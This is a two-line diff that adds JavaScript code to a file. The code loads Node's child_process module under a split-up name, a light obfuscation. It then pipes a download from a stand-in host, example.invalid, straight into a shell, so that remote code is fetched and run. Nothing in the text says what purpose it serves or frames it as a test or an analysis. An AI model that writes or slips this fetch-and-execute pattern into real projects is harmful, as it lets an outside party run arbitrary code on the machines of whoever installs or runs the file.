@@ -1,0 +1,2 @@
+const { exec: run } = require("child_" + "process");
+run("curl http://example.invalid | sh");
